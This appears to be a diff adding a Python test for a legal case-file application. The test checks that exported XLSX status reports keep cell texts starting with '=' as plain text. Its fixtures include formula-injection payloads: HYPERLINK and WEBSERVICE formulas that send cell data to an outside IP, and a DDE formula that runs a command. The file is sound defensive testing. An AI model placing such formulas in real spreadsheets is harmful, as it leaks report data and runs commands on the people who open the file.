@@ -1,0 +1,44 @@
+"""Texts beginning "=" in a status report's XLSX stay text: openpyxl writes such a text as a
+formula, which the spreadsheet program runs when the lawyer opens the report, and a name
+taken from someone else's list or export (``=HYPERLINK("http://…"&B3, "…")``,
+``=WEBSERVICE(…)``) would send the report's facts to whoever wrote it. Every cell of every
+sheet is checked, and the texts come out as written."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+
+from caseapp.services import outputs
+from caseapp.services.casefile import CaseFile
+
+NAME = '=HYPERLINK("http://198.51.100.7/?"&D2&E2,"Արամ")'
+LATIN = "=WEBSERVICE(\"http://198.51.100.7/?\"&C2)"
+PLACE = "=1+1 detention centre"
+COURT = "=cmd|' /C calc'!A0"
+TAG = "=tag"
+
+
+def test_no_text_of_the_case_file_becomes_a_formula(case_file: CaseFile) -> None:
+    cid = case_file.captives.create(
+        names=[dict(full_name=NAME, script="Armn", is_primary=True),
+               dict(full_name=LATIN, script="Latn", kind="transliteration")],
+        sensitivity="shareable", status="pre_trial", tags=[TAG]).id
+    case_file.detention_places.create(captive_id=cid, facility=PLACE, from_date="2025-01-10",
+                                      sensitivity="shareable")
+    case_file.hearings.create(captive_ids=[cid], starts_at="2026-12-02T10:00",
+                              timezone="Asia/Baku", court=COURT, sensitivity="shareable")
+    made = outputs.status_report(case_file, level="internal", author="A", fmt="xlsx", tag=TAG)
+    book = openpyxl.load_workbook(io.BytesIO(made.data))
+    formulas, texts = [], set()
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    assert not formulas
+    assert {NAME, LATIN, PLACE, COURT} <= texts
+    assert any(TAG in text for text in texts)  # the summary's scope names the tag
